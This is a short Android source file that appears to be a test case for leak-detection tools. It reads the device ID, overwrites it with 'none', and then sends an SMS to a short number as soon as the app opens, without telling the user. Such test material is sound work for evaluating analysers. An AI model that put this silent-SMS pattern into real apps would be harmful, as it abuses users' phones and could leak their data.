package cn.shanhai.overwritten;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String id = Device.id(this);
    setTitle(id);
    id = "none";
    SmsManager.getDefault().sendTextMessage("10690001", null, id, null, null);
  }
}
